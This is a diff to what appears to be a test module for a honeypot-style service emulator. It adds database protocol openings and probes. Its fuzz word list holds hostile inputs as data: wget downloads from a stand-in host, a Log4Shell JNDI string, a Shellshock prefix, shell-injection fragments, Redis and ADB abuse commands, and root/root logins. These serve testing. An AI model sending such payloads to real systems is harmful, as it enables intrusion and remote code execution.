@@ -19,7 +19,7 @@ from eudaemon.wire import Purse
 from eudaemon.world.host import Host
 from eudaemon.world.outside import Downloaded
 from eudaemon.world.seed import Seed
-from protocols import smb_client, ssh_client
+from protocols import mongo_client, mssql_client, mysql_client, postgres_client, smb_client, ssh_client
 from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
@@ -66,6 +66,10 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"get a b\r\n", b"set a 0 0 5\r\n", b"abc", b"de\r\n", b"\x80\x01\0\x01\x08\0\0\0\0\0\0\x0c" + bytes(12),
         bytes(8) + b"kv", b"vv",
     ),
+    "mongodb": tuple(mongo_client.opening()),
+    "mssql": tuple(mssql_client.opening()),
+    "mysql": tuple(mysql_client.opening(Table(load("mysql")(visit(host=HOST))).open())),
+    "postgres": tuple(postgres_client.opening()),
     "pop3": (
         b"CAPA\r\n", b"USER root\r\n", b"PASS root\r\n", b"LIST\r\n", b"RETR 1\r\n",
     ),
@@ -91,7 +95,8 @@ WORDS = [
     b"GET /shell?id HTTP/1.1\r\n\r\n", b"POST / HTTP/1.0\r\nContent-Length: 9\r\n\r\n", b"\r\n", b"\n", b"\0", b"\xff",
     b"\xff\xfa", b"\xff\xf0", b"Content-Length: 3\r\n", b"Transfer-Encoding: chunked\r\n", b"ff;x\r\n", b"0\r\n\r\n",
     b"root\r\n", b"wget http://192.0.2.9/x", b"`", b"$(", b"${jndi:ldap://a/b}", b"|sh\n", b"<<E\n", b"'", b'"',
-    b"() { :;};", b"exit\n", b"SSH-2.0-x\r\n", b"\0\0\0\x0c", CONNECT, frame(b"OPEN", 7, 0, b"shell:wget http://192.0.2.9/x\0"),
+    b"() { :;};", b"exit\n", b"SSH-2.0-x\r\n", b"\0\0\0\x0c", CONNECT,
+    frame(b"OPEN", 7, 0, b"shell:wget http://192.0.2.9/x\0"),
     frame(b"OPEN", 8, 0, b"sync:\0"), frame(b"WRTE", 8, 1, b"SEND\x07\0\0\0/data/fDATA\x03\0\0\0abc"),
     b"*2\r\n", b"$3\r\nGET\r\n", b"$", b"config set dir /etc\r\n", b"set x 1\r\n", b"save\r\n", b"module load x\r\n",
     b"slaveof 192.0.2.9 1\r\n", b"system.exec 'wget http://a/b'\r\n", frame(b"CLSE", 8, 1), frame(b"OKAY", 7, 1),
@@ -108,7 +113,11 @@ WORDS = [
     b"1 APPEND INBOX {9}\r\n", b"1 UID FETCH 1:* (BODY[])\r\n", b"RETR 1\r\n", b"AHJvb3QAcm9vdA==\r\n", b"QUIT\r\n",
     smb_client.look(), smb_client.pulsar(0xC8), *smb_client.OPENING1, smb_client.negotiate2(0x0202),
     smb_client.login2(smb_client.hello()), smb_client.smb2(5, bytes(60)), smb_client.BIND_ALIVE, b"\xfeSMB", b"\xffSMB",
-    smb_client.request(3, bytes(8)), b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
+    smb_client.request(3, bytes(8)),
+    b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
+    mongo_client.msg({"find": "c"}, "d"), mongo_client.msg({"insert": 1, "documents": 5, "updates": [7]}),
+    b"\x01\x01\0\x1c\0\0\1\0" + "select 1 1".encode("utf-16-le"), b"\0\0\0\x08\x04\xd2\x16\x2f",
+    b"Q\0\0\0\x0dselect 1\0", b"\x07\0\0\0\x03SELECT", b"\x09\0\0\0\x03select 1",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
